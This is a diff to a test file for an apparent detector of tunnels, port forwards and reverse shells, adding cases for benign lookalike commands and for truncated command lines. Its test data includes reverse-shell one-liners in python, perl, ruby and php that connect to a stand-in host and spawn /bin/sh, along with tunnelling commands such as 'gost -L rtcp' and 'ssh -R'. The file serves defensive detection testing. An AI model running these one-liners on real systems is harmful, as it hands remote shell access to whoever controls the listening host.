@@ -61,6 +61,17 @@ describe("what is near to them is not", () => {
     "ls -R /",
     "grep -R8080 .",
     "kafka local --to topic",
+    "sam local start-api -p 3000 -t template.yaml",
+    "sam local invoke 3000 -t template.yaml",
+    "tool local 3000 4000 -t host",
+    "db client R:1",
+    "app client --config R:8080",
+    "vpn tunnel --url https://vpn.example",
+    "app serve --mode tunnel --token x",
+    "agent --connect db.example:5432 --retry",
+    "gost -L rtcp://:2222/:22",
+    "nc -q 1 some-endpoint 80",
+    "nc some-endpoint 80 -w 3",
   ])("%s", (text) => {
     expect(line(text)).toBeUndefined()
   })
@@ -81,7 +92,11 @@ describe("shells in arguments", () => {
       "-c",
       'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
     ],
-    ["perl", "-e", 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(44,inet_aton("x")));exec("/bin/sh -i");'],
+    [
+      "perl",
+      "-e",
+      'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(44,inet_aton("x")));open(STDIN,"<&S");exec("/bin/sh -i");',
+    ],
     ["ruby", "-rsocket", "-e", 'c=TCPSocket.new("203.0.113.9",44);exec "/bin/sh -i <&5"'],
     ["php", "-r", '$s=fsockopen("203.0.113.9",44);exec("/bin/sh -i <&3 >&3");'],
   ])("%s %s %s", (...argv) => {
@@ -134,6 +149,26 @@ it("reads a renamed client like ssh, with less confidence", () => {
 it("is not led astray by what a client calls itself", () => {
   const facts = aProcess(["sshd", "-NR", "8080:localhost:80", "host"], { exe: "/usr/bin/ssh" })
   expect(requestOf(facts)).toMatchObject({ tool: "ssh", confidence: 0.9 })
+})
+
+describe("a command line that was cut", () => {
+  const cut = (line: string) => requestOf(aProcess(line.split(" "), { argvTruncated: true }))?.kind
+
+  it.each(["ssh -o SendEnv=A", "ssh -o SendEnv=A host", "autossh -M 0 -N host", "plink -P 22"])(
+    "of %s is noted",
+    (line) => {
+      expect(cut(line)).toBe("unread")
+    },
+  )
+
+  it.each([
+    ["ssh host cat", undefined],
+    ["ssh -o ClearAllForwardings=yes host", undefined],
+    ["ssh -R 1:a:2 host", "remote-forward"],
+    ["curl -v", undefined],
+  ])("of %s: %s", (line, kind) => {
+    expect(cut(line)).toBe(kind)
+  })
 })
 
 it("cuts long code in evidence", () => {
